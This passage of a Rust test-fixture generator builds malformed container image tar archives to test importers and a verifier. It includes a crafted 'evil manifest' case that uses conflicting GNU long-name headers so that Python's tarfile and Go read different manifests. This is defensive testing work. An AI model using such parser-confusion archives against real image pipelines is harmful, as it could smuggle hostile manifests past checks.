    let data = image.bundle.data(&old).to_vec();
    image.bundle.remove(&old);
    let upper = sha256_hex(&data).to_uppercase();
    image.bundle.put(&format!("blobs/sha256/{upper}"), data);
    image.index["manifests"][0]["digest"] = json!(format!("sha256:{upper}"));
    image.bundle.put("index.json", to_json(&image.index));
    image.bundle.tar()
}

/// sha512: the OCI archive's manifest stored as `blobs/sha512/<hex>` and
/// referenced by its sha512 digest, as the OCI spec allows.
pub fn case_sha512_manifest() -> Vec<u8> {
    let mut image = podman_oci();
    let old = blob_path(&image.index["manifests"][0]["digest"]);
    let data = image.bundle.data(&old).to_vec();
    image.bundle.remove(&old);
    let hex: String = sha2::Sha512::digest(&data)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect();
    image.index["manifests"][0]["digest"] = json!(format!("sha512:{hex}"));
    image.bundle.put("index.json", to_json(&image.index));
    // The path is 141 bytes: too long for a ustar header, so a GNU long name.
    let mut b = extend(&image.bundle.tar());
    append_file(&mut b, &format!("blobs/sha512/{hex}"), &data);
    b.into_inner().expect("in-memory tar")
}

/// Zero-size layer: a docker-archive image whose one layer is an empty
/// file (no tar blocks at all), its diff_id the digest of nothing.
pub fn case_zero_size_layer() -> Vec<u8> {
    docker_archive(&classic_config(b""), &[Vec::new()])
}

/// Hardlink: two images sharing a layer, the second listing it as
/// `b/layer.tar`, a hard link to the first's file.
pub fn case_hardlink_layer() -> Vec<u8> {
    let mut bundle = Bundle::open(&case_shared_layer());
    let mut manifest = bundle.json("manifest.json");
    let target = manifest[0]["Layers"][0]
        .as_str()
        .expect("layer path")
        .to_owned();
    manifest[1]["Layers"][0] = json!("b/layer.tar");
    bundle.put("manifest.json", to_json(&manifest));
    let mut header = tar::Header::new_ustar();
    header.set_entry_type(tar::EntryType::Link);
    header.set_path("b/layer.tar").expect("short path");
    header.set_link_name(&target).expect("short link");
    header.set_size(0);
    header.set_mode(0o644);
    header.set_mtime(MTIME);
    header.set_cksum();
    let at = bundle
        .members
        .iter()
        .position(|m| m.path == "manifest.json")
        .expect("manifest.json");
    bundle.members.insert(
        at,
        Member {
            header,
            path: "b/layer.tar".to_owned(),
            data: Vec::new(),
        },
    );
    bundle.tar()
}

// ---------------------------------------------------------------------------
// The outer tar as Go reads it (issue #13, item 7): Go's own archive/tar
// test files, rebuilt as headers appended to a good bundle.
// ---------------------------------------------------------------------------

/// An SELinux label as `tar --xattrs` stores it: with its terminating NUL.
pub const SELINUX_LABEL: &[u8] = b"system_u:object_r:container_file_t:s0\0";

/// A good OCI archive, then `header` (a PAX header, or nothing) and a small
/// file `junk.txt`: with a header Go refuses, docker and podman stop there.
fn podman_oci_then(header: impl FnOnce(&mut tar::Builder<Vec<u8>>)) -> Vec<u8> {
    let mut b = extend(&good("podman-oci-archive.tar"));
    header(&mut b);
    append_file(&mut b, "junk.txt", b"junk\n");
    b.into_inner().expect("in-memory tar")
}

/// PAX no newline: the last record of a PAX header lacks its newline (its
/// length counts one). The `tar` crate reads the record anyway; Go's
/// reader refuses the header (as for `pax-bad-hdr-file.tar`).
pub fn case_pax_no_newline() -> Vec<u8> {
    podman_oci_then(|b| {
        let mut body = pax_body(&[("path", b"junk/named")]);
        body.pop();
        append_pax_body(b, false, &body);
    })
}

/// PAX bad mtime: an `mtime` record that is a date, not seconds (as in
/// `pax-bad-mtime-file.tar`). Go refuses the entry it belongs to.
pub fn case_pax_bad_mtime() -> Vec<u8> {
    podman_oci_then(|b| append_pax(b, false, &[("mtime", b"2023-11-14T22:13:20Z")]))
}

/// SELinux xattrs: every entry of the legacy docker save carries
/// `SCHILY.xattr.security.selinux` with a NUL-terminated label, as a bundle
/// saved on an SELinux host may (`xattrs.tar` in Go's tests). Go, docker and
/// podman read it; nothing about the images changes.
pub fn case_pax_xattr_nul() -> Vec<u8> {
    let bundle = Bundle::open(&good("docker-save-legacy.tar"));
    let mut b = tar::Builder::new(Vec::new());
    for m in &bundle.members {
        append_pax(
            &mut b,
            false,
            &[("SCHILY.xattr.security.selinux", SELINUX_LABEL)],
        );
        b.append(&m.header, m.data.as_slice())
            .expect("in-memory tar");
    }
    b.into_inner().expect("in-memory tar")
}

/// Two GNU long names before one entry holding the evil manifest: the
/// first says `manifest.json`, the second `junk/decoy`. Go takes the last
/// (a harmless extra file), Python's tarfile the first (the evil manifest
/// replaces the real one), as `gnu-multi-hdrs.tar` shows.
pub fn case_two_long_names() -> Vec<u8> {
    evil_manifest_after(
        |b| {
            append_gnu_long_name(b, b"manifest.json");
            append_gnu_long_name(b, b"junk/decoy");
        },
        "whatever",
    )
}

/// Bytes of each region of the sparse file below.
pub const SPARSE_REGION: usize = 256;

/// An old GNU sparse entry `sparse.bin` (type `S`): five regions of 256
/// bytes in a 2 KiB file, four in the header and the fifth in an extension
/// block between the header and the packed data, then `junk.txt`.
pub fn case_old_gnu_sparse() -> Vec<u8> {
    let region = |i: usize| {
        (
            format!("{:011o}", i * 2 * SPARSE_REGION),
            format!("{SPARSE_REGION:011o}"),
        )
    };
    let packed = vec![b'x'; 5 * SPARSE_REGION];
    let mut header = RawHeader::gnu(b"sparse.bin", packed.len() as u64, b'S')
        .set(483, format!("{:011o}", 10 * SPARSE_REGION).as_bytes())
        .set(482, &[1]);
    for i in 0..4 {
        let (offset, length) = region(i);
        header = header
            .set(386 + i * 24, offset.as_bytes())
            .set(398 + i * 24, length.as_bytes());
    }
    let mut data = vec![0u8; BLOCK];
    let (offset, length) = region(4);
    data[..11].copy_from_slice(offset.as_bytes());
    data[12..23].copy_from_slice(length.as_bytes());
    data.extend_from_slice(&packed);
    podman_oci_then(|b| append_raw(b, header, &data))
}

/// The size the negative-size entry declares.
pub const NEGATIVE_SIZE: i64 = -1234;

/// Negative size: an entry whose size field is base-256 -1234 (as in
/// `neg-size.tar`). Go refuses it; read unsigned it is 2^64 - 1234 bytes.
pub fn case_negative_size() -> Vec<u8> {
    let mut size = [0xffu8; 12];
    size[4..].copy_from_slice(&NEGATIVE_SIZE.to_be_bytes());
    let header = RawHeader::ustar(b"neg.bin", 0, b'0').set(124, &size);
    podman_oci_then(|b| append_raw(b, header, b""))
}

/// Every case cheap enough to hand to real importers, by name. Left out:
/// G (10^6 index paths), I (8 KiB names) and Q (8.5 GiB of zeros), which
/// test the verifier's limits, not what an importer would load.
/// Two images, the second tagged with a name Docker's reference grammar
/// refuses (an upper-case path component). `docker load` tags the first,
/// then fails on the second: half a bundle imported.
pub fn case_bad_name() -> Vec<u8> {
    let mut bundle = Bundle::open(&good("podman-docker-archive-multi.tar"));
    let mut manifest = bundle.json("manifest.json");
    let entries = manifest.as_array_mut().expect("manifest.json is a list");
    entries[0]["RepoTags"] = json!(["demo/app:1.0"]);
    entries[1]["RepoTags"] = json!(["demo/zz/Bad:1"]);
    bundle.put("manifest.json", to_json(&manifest));
    bundle.tar()
}

pub fn all() -> Vec<(&'static str, Vec<u8>)> {
    vec![
        ("A", case_a()),
        ("A-pax", case_a_pax()),
        ("B", case_b()),
        ("B2", case_b2()),
        ("C", case_c()),
        ("C2-gnu", case_c2(true)),
        ("C2-pax", case_c2(false)),
        ("D1-xx", case_d1(b"xx")),
        ("D1-nul", case_d1(b"\0\0")),
        ("D2", case_d2()),
        ("D3", case_d3()),
        ("D4", case_d4()),
        ("E-both", case_e_both_cases()),
        ("E-layers", case_e_lowercase_layers()),
        ("F", case_f(false)),
        ("F2", case_f(true)),
        ("J", case_j(5_000)),
        ("K1", case_k1()),
        ("K2", case_k2()),
        ("K3", case_k3()),
        ("M", case_m()),
        ("N", case_n()),
        ("O", case_o(8 << 20)),
        ("dup-manifest", case_duplicate_manifest()),
        ("dup-blob", case_duplicate_blob()),
        ("after-eoa", case_after_eoa()),
        ("shared-layer", case_shared_layer()),
        ("noncanonical-json", case_noncanonical_json()),
        ("uppercase-digest", case_uppercase_digest()),
        ("sha512-manifest", case_sha512_manifest()),
        ("zero-size-layer", case_zero_size_layer()),
        ("hardlink-layer", case_hardlink_layer()),
        ("pax-no-newline", case_pax_no_newline()),
        ("pax-bad-mtime", case_pax_bad_mtime()),
        ("pax-xattr-nul", case_pax_xattr_nul()),
        ("two-long-names", case_two_long_names()),
        ("old-gnu-sparse", case_old_gnu_sparse()),
        ("negative-size", case_negative_size()),
        ("bad-name", case_bad_name()),
    ]
}
